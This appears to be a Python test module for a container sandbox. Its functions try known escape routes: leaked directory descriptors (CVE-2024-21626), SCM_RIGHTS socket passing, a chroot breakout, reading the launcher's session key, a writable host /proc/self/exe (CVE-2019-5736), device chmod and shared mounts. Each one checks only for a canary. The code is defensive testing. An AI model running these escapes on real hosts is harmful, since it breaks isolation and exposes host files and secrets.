"""Attacks on what the launcher leaves behind in the process that becomes the command."""

from __future__ import annotations

import array
import ctypes
import os
import socket
import stat
import time

from tests.escape.attacks.kit import Given, Refused, call

KEYCTL_SEARCH, KEYCTL_READ = 10, 11
#: Where the first descriptors of an attack of its own end; what is above has been inherited.
LAST = 128


def inherited_directory(given: Given) -> str:
    """A directory of the host that the caller of the launcher had open (CVE-2024-21626)."""
    for fd in range(3, LAST):
        try:
            file = os.open("secret/canary", os.O_RDONLY, dir_fd=fd)
        except OSError:
            continue
        return _is_canary(file, given, f"by descriptor {fd}")
    raise Refused("no such descriptor")


def inherited_socket(given: Given) -> str:
    """A socket of the launcher's caller, on which a directory of the host waits (unix(7), SCM_RIGHTS)."""
    for fd in range(3, LAST):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            with socket.socket(fileno=os.dup(fd)) as end:
                _, rights, _, _ = end.recvmsg(16, socket.CMSG_SPACE(4), socket.MSG_DONTWAIT)
        except OSError:
            continue
        passed = array.array("i", rights[0][2])[0]
        return _is_canary(os.open("secret/canary", os.O_RDONLY, dir_fd=passed), given, f"by socket {fd}")
    raise Refused("no such socket")


def working_directory(given: Given) -> str:
    """The same directory, as the working directory of the command (CVE-2024-21626)."""
    return _is_canary(os.open("secret/canary", os.O_RDONLY), given, "from the working directory")


def chroot_out(given: Given) -> str:
    """Leave a root that was only changed by chroot(2): by a descriptor of it and a second, lower root."""
    here = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/lower", exist_ok=True)
    os.chroot("/tmp/lower")
    os.fchdir(here)
    for _ in range(16):
        os.chdir("..")
    os.chroot(".")
    return _is_canary(os.open(f"{given.folder}/secret/canary", os.O_RDONLY), given, "below the host's root")


def session_key(given: Given) -> str:
    """A key in the session of whoever launched."""
    key = call("keyctl", KEYCTL_SEARCH, -3, b"user", b"hardening-escape", 0)
    buffer = ctypes.create_string_buffer(64)
    size = call("keyctl", KEYCTL_READ, key, buffer, 64)
    if buffer.raw[:size].decode() != given.canary:
        raise Refused("another key")
    return f"key {key}"


def own_program(given: Given) -> str:
    """The launcher's interpreter, which this command is: a file of the host, seen as the host sees it (CVE-2019-5736)."""
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    with open(f"/proc/self/fdinfo/{fd}", encoding="utf-8") as file:
        mount = next(line.split()[1] for line in file if line.startswith("mnt_id:"))
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        if mount in [line.split()[0] for line in file]:
            raise Refused("a program of the container")
    time.sleep(3)  # what is killed at once gets no further
    try:
        os.close(os.open("/proc/self/exe", os.O_WRONLY))
    except OSError as error:
        return f"{os.readlink('/proc/self/exe')} by the host's mount, to write: {error.strerror}"
    return f"{os.readlink('/proc/self/exe')}, open for writing"


def null_device(given: Given) -> str:
    """The mode of the host's null device, through a masked path."""
    return _mode_set("/proc/interrupts")


def host_device(given: Given) -> str:
    """The mode of a device of the host that the container is given."""
    return _mode_set("/dev/full")


def _mode_set(path: str) -> str:
    mode = stat.S_IMODE(os.stat(path).st_mode)
    os.chmod(path, mode)  # to what it is: who may do that may do more
    return f"mode {mode:o} set"


def shared_mount(given: Given) -> str:
    """A mount that the host sees as well (mount_namespaces(7)). Whether it does is seen from there."""
    call("mount", b"tmpfs", b"/srv", b"tmpfs", 0, b"size=4k")
    raise Refused("mounted in the container only")


def nothing(given: Given) -> str:
    """No attack: the launch itself is one."""
    raise Refused("launched")


def _is_canary(fd: int, given: Given, how: str) -> str:
    if os.read(fd, 100).decode() != given.canary:
        raise Refused("another file")
    return f"the canary {how}"
